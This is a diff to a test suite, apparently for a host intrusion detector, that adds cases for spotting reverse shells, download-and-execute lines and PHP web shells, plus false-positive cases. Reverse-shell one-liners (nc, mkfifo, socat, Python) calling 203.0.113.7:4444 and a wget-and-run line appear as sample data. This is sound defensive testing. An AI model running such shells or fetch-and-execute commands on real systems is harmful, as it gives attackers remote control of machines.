@@ -105,6 +105,10 @@ describe('content: remote shells', () => {
     ['busybox nc -e', '*/5 * * * * nc 203.0.113.7 4444 -e /bin/sh'],
     ['nc -e first', 'nc -e /bin/sh 203.0.113.7 4444'],
     ['mkfifo', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'],
+    [
+      'mkfifo from python',
+      'os.mkfifo(p); os.system("cat " + p + " | sh -i 2>&1 | nc 203.0.113.7 4444 > " + p)',
+    ],
     ['socat', 'socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr,setsid'],
     [
       'python',
@@ -134,6 +138,8 @@ describe('content: remote shells', () => {
       'exec 3<>/dev/null',
       'curl -fsS http://127.0.0.1:8080/health',
       'import socket\ns = socket.create_connection(("db", 5432))\nprint(s.recv(10))',
+      // A syntax highlighter's list of shell commands (prism.js), naming mkfifo and nc.
+      'builtin:/\\b(?:kill|mkdir|mkfifo|mkfs|mknod|mv|nano|nc|netstat)(?=$|[)\\s;|&])/',
     ])
       expect(reverseShell(added('/usr/local/bin/check', text)), text).toBeUndefined();
   });
@@ -151,6 +157,13 @@ describe('content: download and execute, decoded execution', () => {
         added('/etc/rc.local', 'wget -q http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k'),
       ),
     ).toBeDefined();
+  });
+  it('leaves documentation that shows an install one-liner alone', () => {
+    const guide = 'Install pnpm first:\n\n    curl -fsSL https://get.pnpm.io/install.sh | sh -\n';
+    expect(
+      downloadAndExecute(added('/var/www/html/app/docs/installation.md', guide)),
+    ).toBeUndefined();
+    expect(downloadAndExecute(added('/var/www/html/app/install.sh', guide))).toBeDefined();
   });
   it('leaves a download to a file alone', () => {
     expect(
@@ -233,6 +246,8 @@ describe('content: PHP web shell families', () => {
       // random_compat style
       '<?php $buf = system("head -c 32 /dev/urandom"); ?>',
       '<?php echo htmlspecialchars($_GET["q"]); ?>',
+      // A retired `/e` call kept in a comment (e107's templates) runs nothing.
+      '<?php\n$text = $tp->parseTemplate($T, true); // preg_replace("/\\{(.*?)\\}/e", \'$\\1\', $T);\n',
     ])
       expect(phpShellContent(added('/var/www/html/wp-includes/x.php', text)), text).toBeUndefined();
   });
